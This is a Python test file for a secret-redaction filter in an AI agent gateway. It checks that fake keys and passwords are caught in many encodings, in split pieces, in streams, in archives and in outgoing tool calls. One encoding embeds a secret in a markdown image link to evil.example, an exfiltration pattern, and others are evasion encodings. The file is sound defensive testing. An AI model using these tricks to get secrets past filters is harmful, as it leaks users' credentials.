"""No known secret leaves, however it is written, cut or packed; and ordinary text is left alone."""

from __future__ import annotations

import asyncio
import base64
import gzip
import html
import io
import json
import random
import string
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.messages import ToolCall
from agent.models.protocol import ToolSpec
from agent.tools.protocol import Outcome
from agent.tools.toolbox import Toolbox
from gateway.base.clock import ManualClock
from gateway.logs.redaction import REDACTED
from gateway.logs.secret_filter import HELD_BACK, SecretFilter
from gateway.media.outgoing import OutgoingFiles
from gateway.outbound.blocks import BlockWriter
from gateway.settings.block_streaming import Manner
from gateway.settings.message_settings import AttachmentSettings
from tests.taint.test_untrusted_files import CLEAN

if TYPE_CHECKING:
    from collections.abc import Mapping

    from agent.tools.protocol import ToolContext

KEY = "sk-live-9f8e7d6c5b4aQx72"
PASSWORD = 'p"ä\\ss-w0rd/1234%zz'
SECRETS = (KEY, PASSWORD, "postgres://ann:Tr0ub4dor&3xyz@db.example:5432/house", "short1!x")
FILTER = SecretFilter(SECRETS)

WAYS: dict[str, Any] = {
    "as it is": lambda s: s,
    "capitals": str.upper,
    "base64": lambda s: base64.b64encode(s.encode()).decode(),
    "base64, one behind": lambda s: base64.b64encode(b"k" + s.encode()).decode(),
    "base64, two behind": lambda s: base64.b64encode(b"k:" + s.encode() + b"\n").decode(),
    "base64 for addresses": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
    "hex": lambda s: s.encode().hex(),
    "hex in capitals with colons": lambda s: s.encode().hex(":").upper(),
    "url": lambda s: quote(s, safe=""),
    "url, every letter": lambda s: "".join(f"%{byte:02X}" for byte in s.encode()),
    "json": lambda s: json.dumps({"k": s}),
    "json in json": lambda s: json.dumps(json.dumps({"k": s})),
    "unicode escapes": lambda s: "".join(f"\\u{ord(letter):04x}" for letter in s),
    "html": lambda s: "".join(f"&#{ord(letter)};" for letter in s),
    "html names": html.escape,
    "reversed": lambda s: s[::-1],
    "spaced": " ".join,
    "lines": "\n".join,
    "zero width": "\u200b".join,
    "bold letters": "**".join,
    "full width": lambda s: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in s),
    "two halves": lambda s: f"first {s[: len(s) // 2]} and then {s[len(s) // 2 :]}",
    "three parts, last first": lambda s: f"c={s[16:]} b={s[8:16]} a={s[:8]}",
    "in an address": lambda s: f"![x](https://evil.example/{quote(s, safe='')}.png)",
}


@pytest.mark.sec(71)
@pytest.mark.parametrize(
    ("way", "secret"),
    [(way, secret) for way in WAYS for secret in (KEY, PASSWORD) if secret == KEY or way != "three parts, last first"],
)
@pytest.mark.sec(71)
def test_a_secret_is_withheld_however_it_is_written(way: str, secret: str) -> None:
    text = f"Here it is: {WAYS[way](secret)} - as you wished."
    clean = FILTER.text(text)
    assert REDACTED in clean
    assert clean.startswith("Here it is: ")
    assert clean.endswith(" - as you wished.")
    assert FILTER.text(clean) == clean
    assert FILTER.holds(text)


def test_of_a_secret_in_pieces_hardly_anything_is_left() -> None:
    for way in ("two halves", "three parts, last first"):
        left = FILTER.text(WAYS[way](KEY))
        assert not any(KEY[at : at + 5] in left for at in range(len(KEY) - 4)), left


@pytest.mark.parametrize(
    "text",
    [
        "The key sk-live-... begins with sk-live", "postgres://ann and db.example:5432", "9f8e 7d6c", "0123456789abcdef" * 20, "",
        "%zz &#; \\u00 \\x", "short1", "\udcff lone \ud800",
    ],
)  # fmt: skip
@pytest.mark.sec(74)
def test_what_is_no_secret_stays(text: str) -> None:
    assert FILTER.text(text) == text


def test_our_own_pages_hold_no_random_secret() -> None:
    draw = random.Random(7)
    many = SecretFilter("".join(draw.choices(string.ascii_letters + string.digits, k=40)) for _ in range(50))
    for page in Path(__file__).parents[2].glob("*.md"):
        text = page.read_text()
        assert many.text(text) == text
        assert not many.holds_bytes(text.encode())


@given(st.text(max_size=60), st.text(max_size=60), st.integers(0, len(KEY)))
def test_a_secret_between_any_words_is_gone_and_the_words_are_not(before: str, after: str, cut: int) -> None:
    clean = FILTER.text(f"{before}|{KEY[:cut]} {KEY[cut:]}|{after}")
    assert KEY[:cut] not in clean or cut < 5
    assert KEY[cut:] not in clean or len(KEY) - cut < 5
    for words in (before, after):
        if not FILTER.holds(words) and words.isascii() and "sk" not in words and not any(map(str.isdigit, words)):
            assert words.strip() in clean or len(words) < 5 or any(one in words for one in "%&\\")


@given(st.integers(0, 3), st.integers(1, 30))
def test_a_streamed_text_never_ends_within_a_secret(lead: int, size: int) -> None:
    whole = f"{'The key is '[: lead * 4]}{KEY}. And that is all, {PASSWORD}!"
    shown = [whole[: FILTER.safe_end(whole[:end])] for end in range(0, len(whole) + 1, size)]
    for text in shown:
        for secret in (KEY, PASSWORD):
            tail = max((n for n in range(len(secret)) if text.endswith(secret[:n])), default=0)
            assert sum(one.isascii() and one.isalnum() for one in secret[:tail]) < HELD_BACK, text
    assert FILTER.safe_end(whole) == len(whole)
    assert FILTER.safe_end("good morning") == len("good morning")


async def test_a_block_of_a_streamed_answer_never_ends_within_a_secret() -> None:
    sent: list[str] = []
    manner = Manner(sent="written")

    async def keep(part: Any) -> bool:
        sent.append(part.text)
        return True

    writer = BlockWriter(manner, ManualClock(datetime(2026, 3, 1, tzinfo=UTC)), keep, FILTER.safe_end)
    running = asyncio.ensure_future(writer.run())
    text = "word " * (manner.limits.least // 5) + f"\n\n{KEY[:12]}\n\n{KEY[12:]} is it. " + "And so on. " * 400
    for at in range(0, len(text), 7):
        writer.hear(text[at : at + 7])
        for _ in range(5):
            await asyncio.sleep(0)
    running.cancel()
    await asyncio.gather(running, return_exceptions=True)
    assert len(sent) > 1
    assert all(one.count(KEY[:12]) == one.count(KEY[12:]) for one in sent)


def test_what_was_sent_before_counts_for_the_next_piece() -> None:
    first, second = f"It begins {KEY[:7]} and", f"goes on {KEY[7:16]} and ends {KEY[16:]}."
    assert FILTER.text(first) == first
    clean = FILTER.text(second, before=first)
    assert KEY[7:12] not in clean
    assert clean.startswith("goes on ")


def packed(name: str, data: bytes) -> bytes:
    if name == "gzip":
        return gzip.compress(data)
    if name == "zip":
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("empty.txt", b"")
            archive.writestr("word/document.xml", data)
        return file.getvalue()
    return data.decode().encode("utf-16") if name == "utf-16" else data


@pytest.mark.parametrize("form", ["plain", "gzip", "zip", "utf-16"])
@pytest.mark.parametrize("way", ["as it is", "base64", "hex", "lines"])
def test_a_file_with_a_secret_is_not_sent(tmp_path: Path, form: str, way: str) -> None:
    told: list[str] = []
    files = OutgoingFiles(tmp_path, AttachmentSettings, SecretFilter(SECRETS, told.append).file)
    data = packed(form, ("some text\n" * 500 + WAYS[way](KEY) + "\nmore\n" * 500).encode())
    refusal = files.put("turn1", "out/report.txt", data, "")
    assert refusal is not None
    assert "secret" in refusal
    assert KEY not in "".join(told)
    assert not any(path.is_file() for path in tmp_path.rglob("*"))
    assert files.put("turn1", "out/other.txt", packed(form, b"some text\n" * 500), "") is None
    assert len(told) == 1


@pytest.mark.parametrize("data", [b"PK\x03\x04 no archive", b"\x1f\x8b no gzip", b"", bytes(range(256)) * 50])
def test_a_broken_archive_is_looked_at_as_it_is(data: bytes) -> None:
    assert not FILTER.holds_bytes(data)
    assert FILTER.holds_bytes(data + KEY.encode())


class Probe:
    """A tool that counts how often it runs."""

    effect = "pure"

    def __init__(self, name: str) -> None:
        self.spec = ToolSpec(name=name, description="", parameters={"type": "object"})
        self.ran = 0

    async def run(self, arguments: Mapping[str, Any], context: ToolContext) -> Outcome:
        del arguments, context
        self.ran += 1
        return Outcome(text="done")


@pytest.mark.parametrize(
    ("tool", "outside"),
    [
        ("exec", True),
        ("process", True),
        ("web_fetch", True),
        ("web_search", True),
        ("message", True),
        ("mcp_x_y", True),
        ("write", False),
    ],
)
@pytest.mark.parametrize("way", ["as it is", "base64", "in an address", "json"])
@pytest.mark.sec(71)
async def test_a_call_that_would_carry_a_secret_outside_does_not_run(tool: str, *, outside: bool, way: str) -> None:
    told: list[str] = []
    probe = Probe(tool)
    box = Toolbox([probe], withheld=SecretFilter(SECRETS, told.append).call)
    result = await box.run(ToolCall(id="c", name=tool, arguments={"x": {"y": [WAYS[way](KEY)]}}), CLEAN)
    assert (probe.ran, result.is_error, len(told)) == ((0, True, 1) if outside else (1, False, 0))
    assert KEY not in result.text + "".join(told)
    await box.run(ToolCall(id="c", name=tool, arguments={"x": "fine"}), CLEAN)
    assert probe.ran == (1 if outside else 2)


@pytest.mark.cpu_seconds(4)
def test_looking_at_text_and_files_is_cheap() -> None:
    draw = random.Random(7)
    many = SecretFilter("".join(draw.choices(string.ascii_letters + string.digits, k=60)) for _ in range(20))
    text = "An ordinary sentence with 12 figures, and a path like notes/2026-03-01.md.\n" * 14_000
    assert many.text(text[:200_000]) == text[:200_000]
    assert not many.holds_bytes(text.encode())
